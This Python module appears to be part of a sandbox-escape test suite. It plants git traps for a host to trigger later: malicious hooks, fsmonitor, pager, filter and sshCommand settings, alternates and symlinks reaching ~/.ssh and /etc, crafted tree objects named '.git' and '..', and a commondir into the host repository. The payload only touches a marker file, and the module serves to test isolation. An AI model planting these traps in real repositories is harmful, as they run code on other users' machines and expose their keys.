"""What a writer leaves for the host to trip over: git's own ways to run programs, crafted objects.

All of it is judged outside, after the lane was sealed and the host has used its repository.
"""

from __future__ import annotations

import hashlib
import os
import subprocess
import zlib
from pathlib import Path

from base import NEVER, WRITE, Context, attempt

_WRITERS = (WRITE,)
LATER = "judged outside"


def _git_dir() -> Path:
    path = Path(".git")
    if path.is_file():
        return Path(path.read_text().split(":", 1)[1].strip())
    return path


def _payload(context: Context) -> Path:
    """A program that leaves a mark where only the host can see it."""
    path = Path("payload.sh").resolve()
    path.write_text(f"#!/bin/sh\ntouch {context.pwned}\nexec cat\n")
    path.chmod(0o755)
    return path


def _config(*settings: str) -> None:
    for setting in settings:
        name, value = setting.split("=", 1)
        subprocess.run(["git", "config", name, value], check=True, capture_output=True)


@attempt("git hooks", "seal", lanes=_WRITERS)
def hooks(context: Context) -> str:
    payload = _payload(context)
    directory = _git_dir() / "hooks"
    directory.mkdir(exist_ok=True)
    for name in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction"):
        (directory / name).write_bytes(payload.read_bytes())
        (directory / name).chmod(0o755)
    return LATER


@attempt("core.fsmonitor, core.hooksPath, diff.external", "seal", lanes=_WRITERS)
def config(context: Context) -> str:
    payload = _payload(context)
    _config(f"core.fsmonitor={payload}", f"core.hooksPath={payload.parent}")
    _config(f"diff.external={payload}", f"core.pager={payload}", f"core.sshCommand={payload}")
    return LATER


@attempt("a filter by .gitattributes", "seal", lanes=_WRITERS)
def filters(context: Context) -> str:
    payload = _payload(context)
    Path(".gitattributes").write_text("* filter=evil\n")
    _config(f"filter.evil.clean={payload}", f"filter.evil.smudge={payload}")
    os.utime(__file__)  # git reads, and so filters, only what is not as its index says
    return LATER


@attempt("alternates that point elsewhere", "seal", lanes=_WRITERS, control=NEVER)
def alternates(context: Context) -> str:
    info = _git_dir() / "objects/info"
    with open(info / "alternates", "a") as file:
        file.write(f"{context.home}/.ssh\n/etc\n")
    return LATER


def _object(kind: str, data: bytes) -> str:
    raw = f"{kind} {len(data)}\0".encode() + data
    name = hashlib.sha1(raw).hexdigest()
    path = _git_dir() / "objects" / name[:2] / name[2:]
    path.parent.mkdir(exist_ok=True)
    if not path.exists():
        path.write_bytes(zlib.compress(raw))
    return name


@attempt("crafted trees: .git, .., aliases, a symlinked .gitmodules", "seal", lanes=_WRITERS)
def trees(context: Context) -> str:
    """A commit on HEAD that has them all; git itself would refuse to make it."""
    blob = bytes.fromhex(_object("blob", f"#!/bin/sh\ntouch {context.pwned}\n".encode()))
    link = bytes.fromhex(_object("blob", b".git/config"))
    entries = b"".join(
        mode + b" " + name + b"\0" + oid
        for mode, name, oid in (
            (b"100644", b"..", blob),
            (b"100644", b".GIT", blob),
            (b"100644", b".git", blob),
            (b"120000", b".gitmodules", link),
            (b"100644", b"git~1", blob),
        )
    )
    tree = _object("tree", entries)
    head = (_git_dir() / "HEAD").read_text().strip().removeprefix("ref: ")
    ref = _git_dir() / head
    parent = ref.read_text().strip()
    person = "x <x> 1700000000 +0000"
    text = f"tree {tree}\nparent {parent}\nauthor {person}\ncommitter {person}\n\nevil\n"
    ref.write_text(_object("commit", text.encode()) + "\n")
    return LATER


@attempt("names that are .git on other systems", "seal", lanes=_WRITERS, control=NEVER)
def names(context: Context) -> str:
    for name in (".GIT", ".git ", ".g\u200cit", "git~1", ".Git."):
        Path(name).mkdir(exist_ok=True)
        Path(name, "config").write_text("[core]\nfsmonitor = true\n")
    Path("inner/.git/hooks").mkdir(parents=True)
    Path("inner/.git/HEAD").write_text("ref: refs/heads/main\n")
    os.symlink(".git/config", ".gitmodules")
    return LATER


@attempt("symbolic links out of the tree", "seal", lanes=_WRITERS, control=NEVER)
def links(context: Context) -> str:
    os.symlink(f"{context.home}/.ssh", "keys")
    os.symlink(f"{context.home}/.ssh/id_ed25519", "key")
    os.symlink("/proc/self/root", "root")
    return LATER


@attempt("commondir, and .git as a pointer", "seal", lanes=_WRITERS, control=NEVER)
def pointer(context: Context) -> str:
    (_git_dir() / "commondir").write_text(f"{context.host_repository}/.git\n")
    return LATER
